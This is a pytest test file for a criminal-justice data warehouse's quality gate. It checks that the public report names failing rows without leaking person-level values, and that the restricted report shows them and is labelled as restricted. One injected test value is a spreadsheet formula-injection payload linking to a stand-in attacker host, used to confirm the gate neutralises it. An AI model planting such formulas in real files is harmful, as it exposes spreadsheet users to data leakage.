"""The gate's two reports: the public one (published beside the docs site) identifies a failing row by file, row
number, field and reason and shows no value from the delivery; the restricted one shows the values and says so."""

from __future__ import annotations

import html
import json
import re
import shutil
from html.parser import HTMLParser
from pathlib import Path

import pandas as pd
import pyarrow.parquet as pq
import pytest
from test_quality_gate import EXIT_REJECTED, SETTINGS, gate, key_value, read_rows, set_value, write_rows

from crosstrack.contract import load_contract

PUBLIC = "report_public.html"
RESTRICTED = "report_restricted.html"
# Any exact date, as the reports or an extract could write it.
ISO_OR_US_DATE = re.compile(r"\d{4}-\d{2}-\d{2}|\d{1,2}/\d{1,2}/\d{4}")
AS_OF_PLUS_MARGIN = f"extract date + {SETTINGS.future_margin_days} days"
LONG_NAME = "Bartholomew-" + "Q" * 1000
IGNORED_FILE = "ims/notes_for_Bartholomew.csv"


class _Tables(HTMLParser):
    """The table rows of a report page (cell text, unescaped), by the file section (<h2>) they are in."""

    def __init__(self) -> None:
        super().__init__()
        self.section = ""
        self.rows: dict[str, list[list[str]]] = {}
        self._in: str | None = None
        self._text = ""
        self._row: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in ("h2", "td"):
            self._in, self._text = tag, ""
        elif tag == "tr":
            self._row = []

    def handle_endtag(self, tag: str) -> None:
        if tag == "h2" and self._in == "h2":
            self.section, self._in = self._text, None
        elif tag == "td" and self._in == "td":
            self._row.append(self._text)
            self._in = None
        elif tag == "tr" and self._row:
            self.rows.setdefault(self.section, []).append(self._row)

    def handle_data(self, data: str) -> None:
        if self._in:
            self._text += data


def table_rows(page: str) -> dict[str, list[list[str]]]:
    parser = _Tables()
    parser.feed(page)
    return parser.rows


def break_delivery(landing: Path) -> None:
    """Bad rows of every kind, carrying identifiers, names, dates and free text."""
    set_value(landing, "ims/IMS_ADMISSION.csv", 3, "ADMIT_DT", "20230230")  # 30 February
    set_value(landing, "ims/IMS_ADMISSION.csv", 8, "RELEASE_DT", "20991231")  # after as-of
    set_value(landing, "oms/Booking.csv", 11, "ReleaseDate", "01/01/2017")  # before booking
    set_value(landing, "jms/commitments.csv", 4, "release_ts", "2010-01-01 00:00:00")
    set_value(landing, "parole/parolees.csv", 5, "dob", "31-12-1980")
    set_value(landing, "parole/lscmi.csv", 7, "assessment_date", "13-45-2020")
    set_value(landing, "parole/lscmi.csv", 4, "total_score", "4400")
    first_key = key_value(load_contract().file("masscourts/dockets.csv"), 1)
    set_value(landing, "masscourts/dockets.csv", 7, "docket_number", first_key)  # duplicate identifier
    set_value(landing, "masscourts/dockets.csv", 10, "defendant_last_name", LONG_NAME)
    set_value(landing, "oms/Inmate.csv", 8, "LastName", '=HYPERLINK("http://evil.example/?id=A1","Click")')
    set_value(landing, "ims/IMS_STATUS.csv", 12, "STATUS_CD", "")
    set_value(landing, "ims/IMS_OFFENDER.csv", 5, "RACE_CD", "ZQXW")  # warning only: a sample value
    (landing / IGNORED_FILE).write_text("note\nsee file\n")  # not in the contract: ignored, its name is the sender's


@pytest.fixture(scope="module")
def reports(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Path]:
    """(landing, gate output) of a broken sample delivery, gated with Great Expectations (sample values)."""
    from crosstrack.quality.sample_delivery import write_sample_delivery

    root = tmp_path_factory.mktemp("report")
    landing = write_sample_delivery(root / "landing", rows=20)
    break_delivery(landing)
    out = root / "q"
    assert gate(landing, out, use_gx=True).accepted
    return landing, out


def quarantine(out: Path) -> pd.DataFrame:
    return pd.read_parquet(out / "quarantine.parquet")


def gate_words(q: pd.DataFrame) -> set[str]:
    """Words the gate itself writes: column and file names, systems, reasons (not values from the delivery)."""
    contract = load_contract()
    words = {c for f in contract.files for c in f.column_names}
    words |= {f.file_name for f in contract.files} | {f.system for f in contract.files}
    words |= {w for reason in q["reason"] for w in reason.split()}
    return words


def delivered_values(landing: Path, q: pd.DataFrame) -> set[str]:
    """Every non-empty field of every quarantined row (length 4 or more, not part of a gate word), and the
    quarantined values as the gate neutralised them."""
    values = set()
    for (system, file_name), rows in q.groupby(["source_system", "file_name"]):
        _, records = read_rows(landing / system / file_name)
        for row in set(rows["landing_row"]):
            values |= {v.strip()[:200] for v in records[row - 1]}
    values |= set(q["value"])
    words = gate_words(q)
    return {v for v in values if len(v) >= 4 and not any(v in w for w in words)}  # a code such as PROB is in a name


STYLE_BLOCK = re.compile(r"<style[^>]*>.*?</style>", re.S | re.I)


def leaked(page: str, values: set[str]) -> list[str]:
    """The delivered values and dates a page shows. Its style sheet is left out: a colour such as #116611 is no
    delivered value, even when a quarantined field reads 1661."""
    text = html.unescape(STYLE_BLOCK.sub("", page))
    found = [v for v in values if v in text]
    found += ISO_OR_US_DATE.findall(text)
    return sorted(found)


def test_public_report_names_file_row_field_and_reason_of_every_quarantined_row(reports: tuple[Path, Path]) -> None:
    _, out = reports
    q = quarantine(out)
    assert len(q) == 11  # every injected failure but the warning
    tables = table_rows((out / PUBLIC).read_text(encoding="utf-8"))
    for r in q.itertuples():
        section = tables[f"{r.source_system}/{r.file_name}"]
        expected = [str(r.landing_row), r.field]
        reasons = [row[2] for row in section if row[:2] == expected and len(row) == 3]
        assert reasons, f"{r.source_system}/{r.file_name} row {r.landing_row} {r.field} not in the public report"
        if str(SETTINGS.latest_date) in r.reason:  # the gate's own dates are named, the rule stays readable
            assert reasons == [r.reason.replace(str(SETTINGS.latest_date), AS_OF_PLUS_MARGIN)]
        else:
            assert reasons == [r.reason]


def test_public_report_shows_no_value_from_the_delivery(reports: tuple[Path, Path]) -> None:
    landing, out = reports
    q = quarantine(out)
    values = delivered_values(landing, q)
    report = json.loads((out / "report.json").read_text(encoding="utf-8"))
    samples = {s["value"] for f in report["files"] for w in f["warnings"] for s in w["samples"] if len(s["value"]) >= 4}
    samples |= {v for f in report["files"] for e in f["expectations"] for v in e["partial_unexpected_list"]}
    values |= {v for v in samples if len(v) >= 4}
    assert {"ZQXW", "13-45-2020", "01/01/2017", "31-12-1980", "20230230", LONG_NAME[:200]} <= values
    assert any(v.startswith("'=HYPERLINK") for v in values)
    public = (out / PUBLIC).read_text(encoding="utf-8")
    assert leaked(public, values) == []
    assert str(SETTINGS.extract_date) not in public and str(out.parent) not in public  # no as-of date, no landing path
    assert "notes_for_Bartholomew" not in public and "Files not in the contract, ignored: 1" in public


def test_restricted_report_shows_the_values_and_says_it_is_restricted(reports: tuple[Path, Path]) -> None:
    _, out = reports
    q = quarantine(out)
    page = (out / RESTRICTED).read_text(encoding="utf-8")
    title = re.search(r"<title>(.*?)</title>", page)
    assert title and "RESTRICTED" in title.group(1) and "person-level" in title.group(1)
    assert re.search(r"<p class='restricted'>RESTRICTED: person-level values", page)
    text = html.unescape(page)
    assert all(v in text for v in q["value"] if v)
    assert "ZQXW" in text and "13-45-2020" in text  # a warning's and an expectation's sample value
    assert IGNORED_FILE in text
    report = json.loads((out / "report.json").read_text(encoding="utf-8"))
    assert report["classification"].startswith("RESTRICTED")
    metadata = pq.read_schema(out / "quarantine.parquet").metadata
    assert metadata[b"classification"].startswith(b"RESTRICTED")
    assert "RESTRICTED" not in (out / PUBLIC).read_text(encoding="utf-8")


def test_a_missing_header_does_not_put_the_first_row_in_the_public_report(
    reports: tuple[Path, Path], tmp_path: Path
) -> None:
    """Without its header, a file's first data row is read as the header: the public report counts those names."""
    landing, _ = reports
    copy = tmp_path / "landing"
    shutil.copytree(landing, copy)
    path = copy / "parole/parolees.csv"
    _, rows = read_rows(path)
    write_rows(path, rows[0], rows[1:])
    out = tmp_path / "q"
    assert gate(copy, out).exit_code == EXIT_REJECTED
    first_row = {v for v in rows[0] if len(v) >= 4}
    assert first_row
    public = (out / PUBLIC).read_text(encoding="utf-8")
    assert leaked(public, first_row) == []
    assert "parole/parolees.csv: unexpected column(s) not in the contract:" in html.unescape(public)
    restricted = html.unescape((out / RESTRICTED).read_text(encoding="utf-8"))
    assert all(v in restricted for v in first_row)


@pytest.mark.warehouse
def test_the_report_beside_the_docs_site_holds_no_quarantined_value_and_no_date(built_warehouse) -> None:
    page = (built_warehouse.target / "data_quality_report.html").read_text(encoding="utf-8")
    q = quarantine(built_warehouse.quality)
    assert len(q) > 10  # the scan below means something
    values = delivered_values(built_warehouse.landing, q)
    assert len(values) > len(q)
    assert leaked(page, values) == []
    tables = table_rows(page)
    listed = {(section, row[0], row[1]) for section, rows in tables.items() for row in rows if len(row) == 3}
    assert {(f"{r.source_system}/{r.file_name}", str(r.landing_row), r.field) for r in q.itertuples()} <= listed
    beside = {p.name for p in built_warehouse.target.iterdir()}
    assert not beside & {RESTRICTED, "report.json", "quarantine.parquet", "report.html"}
